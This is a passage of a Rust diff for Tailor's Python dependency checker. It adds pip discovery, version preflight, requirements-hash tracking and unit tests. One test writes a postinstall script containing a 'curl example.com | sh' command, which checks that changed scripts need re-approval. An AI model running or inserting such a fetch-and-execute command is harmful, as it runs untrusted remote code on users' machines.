+                    .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.'))
+                    .collect::<String>()
+            })
+            .filter(|name| !name.is_empty())
+            .collect()
+    }
+
+    /// Normalized names of distributions installed in a `--target` lib dir
+    /// or site-packages
+    fn installed_distributions(lib_dir: &Path) -> Vec<String> {
+        let Ok(entries) = fs::read_dir(lib_dir) else {
+            return Vec::new();
+        };
+        entries
+            .filter_map(|entry| entry.ok())
+            .filter_map(|entry| {
+                let name = entry.file_name().to_string_lossy().to_string();
+                let stem = name.strip_suffix(".dist-info")?;
+                // `<name>-<version>.dist-info`
+                let (dist, _version) = stem.rsplit_once('-')?;
+                Some(Self::normalize_name(dist))
+            })
+            .collect()
+    }
+
+    /// PEP 503-style name comparison key
+    fn normalize_name(name: &str) -> String {
+        name.to_lowercase().replace(['-', '.'], "_")
+    }
+
+    /// Remove everything in the shared pip cache
+    pub fn clear_cache(&self) -> Result<()> {
+        if self.cache_dir.exists() {
+            fs::remove_dir_all(&self.cache_dir)
+                .context("Failed to remove pip cache directory")?;
+        }
+        println!("Cleared dependency cache: {}", self.cache_dir.display());
+        Ok(())
+    }
 
     /// Check if dependencies need updating
-    #[allow(dead_code)]
     pub async fn needs_update(vault_path: &str) -> Result<bool> {
         let vault_path = PathBuf::from(vault_path);
         let requirements_file = vault_path.join("plugins").join("requirements.txt");
-        let lib_dir = vault_path.join("lib");
+        let lib_dir = Self::packages_dir(&vault_path);
 
         // If requirements.txt doesn't exist, no update needed
         if !requirements_file.exists() {
             return Ok(false);
         }
 
-        // If lib directory doesn't exist, update needed
-        if !lib_dir.exists() {
+        // If lib directory doesn't exist (or was only scaffolded), update needed
+        if !lib_dir.exists() || fs::read_dir(&lib_dir)?.next().is_none() {
             return Ok(true);
         }
 
-        // Check modification times (simplified check)
-        // In production, you'd want to parse requirements.txt and check installed versions
-        Ok(false)
+        // Rebuild when lib/ was built from different requirements
+        let installed_hash = fs::read_to_string(lib_dir.join(REQUIREMENTS_HASH_FILE)).ok();
+        Ok(installed_hash.as_deref() != Some(Self::requirements_hash(&requirements_file)?.as_str()))
+    }
+
+    /// Whether a requirements file lists at least one package
+    fn has_requirements(requirements_file: &Path) -> bool {
+        fs::read_to_string(requirements_file)
+            .map(|contents| {
+                contents.lines()
+                    .map(str::trim)
+                    .any(|line| !line.is_empty() && !line.starts_with('#'))
+            })
+            .unwrap_or(false)
+    }
+
+    /// Get the command that runs pip: a standalone pip binary if one is on
+    /// PATH, otherwise `python -m pip`
+    fn get_pip_command() -> Result<Vec<String>> {
+        #[cfg(target_os = "windows")]
+        let pip_candidates = vec!["pip.exe", "pip3.exe"];
+
+        #[cfg(not(target_os = "windows"))]
+        let pip_candidates = vec!["pip3", "pip"];
+
+        let mut attempted = Vec::new();
+        for candidate in pip_candidates {
+            let command = vec![candidate.to_string()];
+            if Self::runs(&command) {
+                return Ok(command);
+            }
+            attempted.push(candidate.to_string());
+        }
+
+        // Minimal Python installs often ship pip only as a module
+        match SidecarManager::get_python_executable() {
+            Ok(python) => {
+                let command = vec![python, "-m".to_string(), "pip".to_string()];
+                if Self::runs(&command) {
+                    return Ok(command);
+                }
+                attempted.push(command.join(" "));
+            }
+            Err(_) => attempted.push("python -m pip (Python not found)".to_string()),
+        }
+
+        Err(TailorError::PipNotFound { attempted }.into())
+    }
+
+    /// Fail if the sidecar's Python is older than a vault's declared minimum
+    pub async fn check_python_version(required: &str) -> Result<()> {
+        let (required_major, required_minor) = parse_python_version(required)
+            .ok_or_else(|| anyhow!("Invalid Python version requirement: {}", required))?;
+
+        let installed = Self::python_version().await?;
+        let (major, minor) = parse_python_version(&installed)
+            .ok_or_else(|| anyhow!("Could not determine Python version from '{}'", installed))?;
+
+        if (major, minor) < (required_major, required_minor) {
+            bail!("Vault requires Python {} but {} is installed", required, installed);
+        }
+        Ok(())
+    }
+
+    /// A warning if `installed` is older than the bundled sidecar supports
+    pub fn python_version_warning(installed: &str) -> Option<String> {
+        let minimum = parse_python_version(MIN_PYTHON_VERSION)?;
+        match parse_python_version(installed) {
+            Some(version) if version < minimum => Some(format!(
+                "Python {} is older than the recommended {}", installed, MIN_PYTHON_VERSION
+            )),
+            Some(_) => None,
+            None => Some(format!("Could not determine Python version from '{}'", installed)),
+        }
+    }
+
+    /// Version of the Python that runs sidecars, e.g. "3.11.4"
+    pub async fn python_version() -> Result<String> {
+        let python = SidecarManager::get_python_executable()?;
+        let output = tokio::process::Command::new(&python)
+            .arg("--version")
+            .output()
+            .await
+            .context("Failed to run Python")?;
+
+        // Python 2 and early 3.x print the version to stderr
+        let text = format!("{}{}",
+                           String::from_utf8_lossy(&output.stdout),
+                           String::from_utf8_lossy(&output.stderr));
+        let text = text.trim();
+        Ok(text.strip_prefix("Python ").unwrap_or(text).to_string())
+    }
+
+    /// Look for a suitable Python and pip using the same discovery as
+    /// sidecar spawning and dependency installs
+    pub async fn preflight() -> PreflightReport {
+        let python_version = Self::python_version().await;
+        let pip = tokio::task::spawn_blocking(Self::get_pip_command)
+            .await
+            .unwrap_or_else(|e| Err(anyhow!("pip check failed: {}", e)));
+        Self::preflight_report(python_version, pip.err())
+    }
+
+    fn preflight_report(python_version: Result<String>, pip_error: Option<anyhow::Error>) -> PreflightReport {
+        let mut issues = Vec::new();
+
+        let python_ok = match &python_version {
+            Ok(version) => match parse_python_version(version) {
+                Some(installed) if installed >= parse_python_version(MIN_PYTHON_VERSION).unwrap_or_default() => true,
+                _ => {
+                    issues.push(format!("Python {} is installed but Tailor needs {} or newer. {}",
+                                        version, MIN_PYTHON_VERSION, Self::python_install_hint()));
+                    false
+                }
+            },
+            Err(_) => {
+                issues.push(format!("Python was not found on PATH. {}", Self::python_install_hint()));
+                false
+            }
+        };
+
+        let pip_ok = pip_error.is_none();
+        if let Some(e) = pip_error {
+            issues.push(format!("{}. Install it with `python -m ensurepip --upgrade`, or your \
+                                 package manager's pip package.", e));
+        }
+
+        PreflightReport {
+            python_ok,
+            pip_ok,
+            python_version: python_version.ok(),
+            issues,
+        }
+    }
+
+    fn python_install_hint() -> String {
+        if cfg!(target_os = "windows") {
+            format!("Install Python {} or newer from https://www.python.org/downloads/ and tick \
+                     \"Add python.exe to PATH\", then restart Tailor.", MIN_PYTHON_VERSION)
+        } else if cfg!(target_os = "macos") {
+            format!("Install Python {} or newer with `brew install python` or from \
+                     https://www.python.org/downloads/, then restart Tailor.", MIN_PYTHON_VERSION)
+        } else {
+            format!("Install Python {} or newer (python3 and python3-pip) with your \
+                     package manager, then restart Tailor.", MIN_PYTHON_VERSION)
+        }
+    }
+
+    /// Whether `<command> --version` runs successfully
+    fn runs(command: &[String]) -> bool {
+        Command::new(&command[0])
+            .args(&command[1..])
+            .arg("--version")
+            .output()
+            .map(|output| output.status.success())
+            .unwrap_or(false)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_has_requirements() {
+        let dir = std::env::temp_dir().join(format!("tailor_deps_{}", uuid::Uuid::new_v4()));
+        fs::create_dir_all(&dir).unwrap();
+        let file = dir.join("requirements.txt");
+
+        fs::write(&file, "# Shared plugin dependencies\n\n").unwrap();
+        assert!(!DependencyChecker::has_requirements(&file));
+
+        fs::write(&file, "# Shared plugin dependencies\nrequests>=2.0\n").unwrap();
+        assert!(DependencyChecker::has_requirements(&file));
+
+        fs::remove_dir_all(&dir).unwrap();
+    }
+
+    #[tokio::test]
+    async fn test_status_reports_missing() {
+        let vault = std::env::temp_dir().join(format!("tailor_status_{}", uuid::Uuid::new_v4()));
+        fs::create_dir_all(vault.join("plugins")).unwrap();
+        fs::create_dir_all(vault.join("lib").join("Typing_Extensions-4.9.0.dist-info")).unwrap();
+        fs::write(
+            vault.join("plugins").join("requirements.txt"),
+            "# deps\n--index-url https://example.com\ntyping-extensions>=4.0  # types\nrich[jupyter]==13.0\n",
+        ).unwrap();
+        let vault_path = vault.to_string_lossy().to_string();
+
+        let checker = DependencyChecker::default();
+        let status = checker.status(&vault_path).await.unwrap();
+        assert!(status.requirements_present);
+        assert!(!status.up_to_date);
+        assert_eq!(status.missing, vec!["rich".to_string()]);
+        assert_eq!(status.last_install_ms, None);
+
+        checker.record_install(&vault_path, std::time::Duration::from_millis(1500));
+        assert_eq!(checker.status(&vault_path).await.unwrap().last_install_ms, Some(1500));
+
+        fs::remove_dir_all(&vault).unwrap();
+    }
+
+    #[test]
+    fn test_python_version_warning() {
+        assert_eq!(DependencyChecker::python_version_warning("3.12.1"), None);
+        assert_eq!(DependencyChecker::python_version_warning(MIN_PYTHON_VERSION), None);
+        assert_eq!(
+            DependencyChecker::python_version_warning("3.9.7").as_deref(),
+            Some("Python 3.9.7 is older than the recommended 3.11")
+        );
+    }
+
+    #[test]
+    fn test_postinstall_trust() {
+        let vault = std::env::temp_dir().join(format!("tailor_postinstall_{}", uuid::Uuid::new_v4()));
+        fs::create_dir_all(vault.join("plugins")).unwrap();
+        fs::write(vault.join("plugins").join("requirements.txt"), "requests\n").unwrap();
+        let vault_path = vault.to_string_lossy().to_string();
+        let checker = DependencyChecker::default().with_trust_file(vault.join("trust.json"));
+
+        assert_eq!(checker.untrusted_postinstall(&vault_path), None);
+        let script = vault.join("plugins").join(POSTINSTALL_SCRIPT);
+        fs::write(&script, "print('downloading model')\n").unwrap();
+        assert_eq!(checker.untrusted_postinstall(&vault_path), Some(script.clone()));
+
+        checker.trust_postinstall(&vault_path).unwrap();
+        assert_eq!(checker.untrusted_postinstall(&vault_path), None);
+
+        // A changed script needs approving again
+        fs::write(&script, "import os; os.system('curl example.com | sh')\n").unwrap();
+        assert_eq!(checker.untrusted_postinstall(&vault_path), Some(script));
+
+        fs::remove_dir_all(&vault).unwrap();
+    }
+
+    #[tokio::test]
+    async fn test_postinstall_timeout() {
+        let vault = std::env::temp_dir().join(format!("tailor_postinstall_timeout_{}", uuid::Uuid::new_v4()));
+        fs::create_dir_all(vault.join("plugins")).unwrap();
+        fs::write(vault.join("plugins").join("requirements.txt"), "requests\n").unwrap();
+        fs::write(vault.join("plugins").join(POSTINSTALL_SCRIPT), "import time; time.sleep(30)\n").unwrap();
+        let vault_path = vault.to_string_lossy().to_string();
+        let checker = DependencyChecker::default()
+            .with_trust_file(vault.join("trust.json"))
+            .with_postinstall_timeout(std::time::Duration::from_millis(500));
+        checker.trust_postinstall(&vault_path).unwrap();
+
+        let started = std::time::Instant::now();
+        let err = checker.run_postinstall(&vault_path, &vault.join("lib")).await.unwrap_err();
+        assert!(err.to_string().contains("did not finish"), "{}", err);
+        assert!(started.elapsed() < std::time::Duration::from_secs(10));
+
+        fs::remove_dir_all(&vault).unwrap();
+    }
+
+    #[tokio::test]
+    async fn test_reset_removes_lib() {
+        let vault = std::env::temp_dir().join(format!("tailor_reset_{}", uuid::Uuid::new_v4()));
+        fs::create_dir_all(vault.join("lib").join("broken_pkg")).unwrap();
+        fs::write(vault.join("lib").join(REQUIREMENTS_HASH_FILE), "stale").unwrap();
+
+        // No requirements, so nothing is reinstalled
+        let report = DependencyChecker::default().reset(&vault.to_string_lossy()).await.unwrap();
+        assert!(report.removed);
+        assert!(!report.installed);
+        assert!(report.packages.is_empty());
+        assert!(!vault.join("lib").exists());
+
+        fs::remove_dir_all(&vault).unwrap();
+    }
+
+    #[tokio::test]
+    async fn test_migrate_to_venv_preconditions() {
+        let vault = std::env::temp_dir().join(format!("tailor_migrate_{}", uuid::Uuid::new_v4()));
+        let lib = vault.join("lib");
+        fs::create_dir_all(lib.join("requests")).unwrap();
+        fs::write(lib.join("requests").join("__init__.py"), "").unwrap();
+        fs::create_dir_all(lib.join("requests-2.31.0.dist-info")).unwrap();
+        fs::create_dir_all(lib.join("namespace_only")).unwrap();
+        fs::write(lib.join("six.py"), "").unwrap();
+        fs::write(lib.join("_cffi_backend.py"), "").unwrap();
+        assert_eq!(DependencyChecker::top_level_modules(&lib), ["requests", "six"]);
+
+        // Nothing is required, so lib/ stays and no environment is created
+        let checker = DependencyChecker::default();
+        let vault_path = vault.to_string_lossy().to_string();
+        assert!(!checker.migrate_to_venv(&vault_path).await.unwrap().migrated);
+        assert!(lib.exists() && !vault.join(VENV_DIR).exists());
+
+        // A vault that already has an environment is left alone
+        fs::create_dir_all(vault.join("plugins")).unwrap();
+        fs::write(vault.join("plugins").join("requirements.txt"), "requests\n").unwrap();
+        let site_packages = vault.join(VENV_DIR).join("lib").join("python3.12").join("site-packages");
+        fs::create_dir_all(&site_packages).unwrap();
+        assert!(!checker.migrate_to_venv(&vault_path).await.unwrap().migrated);
+        assert!(lib.exists());
+        assert_eq!(DependencyChecker::packages_dir(&vault), site_packages);
+
+        fs::remove_dir_all(&vault).unwrap();
+    }
+
+    #[tokio::test]
+    async fn test_installed_packages_cached_until_reinstall() {
+        let vault = std::env::temp_dir().join(format!("tailor_packages_{}", uuid::Uuid::new_v4()));
+        let lib = vault.join("lib");
+        fs::create_dir_all(&lib).unwrap();
+        fs::write(lib.join(REQUIREMENTS_HASH_FILE), "abc").unwrap();
+        let vault_path = vault.to_string_lossy().to_string();
+
+        let jinja = lib.join("jinja2-3.1.2.dist-info");
+        fs::create_dir_all(&jinja).unwrap();
+        fs::write(jinja.join("METADATA"), "Metadata-Version: 2.1\nName: Jinja2\nVersion: 3.1.2\n\nName: not a header\n").unwrap();
+        fs::create_dir_all(lib.join("requests-2.31.0.dist-info")).unwrap();
+        fs::create_dir_all(lib.join("requests")).unwrap();
+        let packages = DependencyChecker::read_distributions(&lib);
+        assert_eq!(packages.iter().map(|p| (p.name.as_str(), p.version.as_str())).collect::<Vec<_>>(),
+                   [("Jinja2", "3.1.2"), ("requests", "2.31.0")]);
+        assert_eq!(packages[1].location, lib.to_string_lossy());
+
+        // Served from the cache while the recorded requirements hash matches
+        let checker = DependencyChecker::default();
+        let vault_id = WindowManager::vault_id(&vault_path);
+        checker.installed_packages.lock().unwrap().insert(vault_id.clone(), PackageListing {
+            stamp: Some("abc".to_string()),
+            packages: packages.clone(),
+        });
+        assert_eq!(checker.list_installed_packages(&vault_path).await.unwrap(), packages);
+
+        checker.record_install(&vault_path, std::time::Duration::from_millis(10));
+        assert!(!checker.installed_packages.lock().unwrap().contains_key(&vault_id));
+
+        fs::remove_dir_all(&vault).unwrap();
+    }
+
+    #[tokio::test]
+    async fn test_needs_update_tracks_requirements_hash() {
+        let vault = std::env::temp_dir().join(format!("tailor_hash_{}", uuid::Uuid::new_v4()));
+        fs::create_dir_all(vault.join("plugins")).unwrap();
+        fs::create_dir_all(vault.join("lib").join("requests")).unwrap();
+        let requirements = vault.join("plugins").join("requirements.txt");
+        fs::write(&requirements, "requests>=2.0\n").unwrap();
+        let vault_path = vault.to_string_lossy().to_string();
+
+        // Populated lib/ without a matching stamp is rebuilt
+        assert!(DependencyChecker::needs_update(&vault_path).await.unwrap());
+
+        let hash = DependencyChecker::requirements_hash(&requirements).unwrap();
+        fs::write(vault.join("lib").join(REQUIREMENTS_HASH_FILE), &hash).unwrap();
+        assert!(!DependencyChecker::needs_update(&vault_path).await.unwrap());
+
+        fs::write(&requirements, "requests>=2.0\nrich\n").unwrap();
+        assert!(DependencyChecker::needs_update(&vault_path).await.unwrap());
+
+        fs::remove_dir_all(&vault).unwrap();
+    }
+
+    #[test]
+    fn test_preflight_report() {
+        let report = DependencyChecker::preflight_report(Ok("3.12.1".to_string()), None);
+        assert!(report.python_ok && report.pip_ok);
+        assert!(report.issues.is_empty());
+
+        let report = DependencyChecker::preflight_report(Ok("3.9.6".to_string()), None);
+        assert!(!report.python_ok);
+        assert_eq!(report.python_version.as_deref(), Some("3.9.6"));
+
+        let pip_error = TailorError::PipNotFound { attempted: vec!["pip3".to_string()] }.into();
+        let report = DependencyChecker::preflight_report(Err(anyhow!("Python not found in PATH")), Some(pip_error));
+        assert!(!report.python_ok && !report.pip_ok);
+        assert_eq!(report.python_version, None);
+        assert_eq!(report.issues.len(), 2);
+    }
+
+    #[test]
+    fn test_platform_incompatible_package() {
+        let stderr = "ERROR: Could not find a version that satisfies the requirement torch==2.0.1+cu118 \
+                      (from versions: 2.2.0, 2.3.1)\nERROR: No matching distribution found for torch==2.0.1+cu118\n";
+        assert_eq!(
+            DependencyChecker::platform_incompatible_package(stderr).as_deref(),
+            Some("torch==2.0.1+cu118")
+        );
+
+        let stderr = "ERROR: pywin32-306-cp311-cp311-win_amd64.whl is not a supported wheel on this platform.";
+        assert_eq!(
+            DependencyChecker::platform_incompatible_package(stderr).as_deref(),
+            Some("pywin32==306")
+        );
+
+        assert_eq!(DependencyChecker::platform_incompatible_package("ERROR: Invalid requirement: '!!'"), None);
+
+        // Wheels exist only for another Python
+        let stderr = "ERROR: Ignored the following versions that require a different python version: 1.0 Requires-Python >=3.13\n\
+                      ERROR: Could not find a version that satisfies the requirement newlib (from versions: none)\n\
+                      ERROR: No matching distribution found for newlib\n";
+        assert_eq!(DependencyChecker::platform_incompatible_package(stderr).as_deref(), Some("newlib"));
+
+        // A typo, or an index that could not be reached, lists no versions
+        let stderr = "ERROR: Could not find a version that satisfies the requirement reqeusts (from versions: none)\n\
+                      ERROR: No matching distribution found for reqeusts\n";
+        assert_eq!(DependencyChecker::platform_incompatible_package(stderr), None);
+        let stderr = "WARNING: Retrying (Retry(total=4)) after connection broken by 'NewConnectionError'\n\
+                      ERROR: Could not find a version that satisfies the requirement requests (from versions: )\n\
+                      ERROR: No matching distribution found for requests\n";
+        assert_eq!(DependencyChecker::platform_incompatible_package(stderr), None);
+    }
+
+    #[test]
+    fn test_clear_cache() {
+        let cache_dir = std::env::temp_dir().join(format!("tailor_cache_{}", uuid::Uuid::new_v4()));
+        fs::create_dir_all(cache_dir.join("wheels")).unwrap();
+
+        let checker = DependencyChecker::new(
+            cache_dir.clone(),
+            EnvCache::new(cache_dir.join("envs"), DEFAULT_ENV_CACHE_BYTES),
+        );
+        checker.clear_cache().unwrap();
+        assert!(!cache_dir.exists());
+
+        // Clearing a missing cache is not an error
+        checker.clear_cache().unwrap();
     }
 }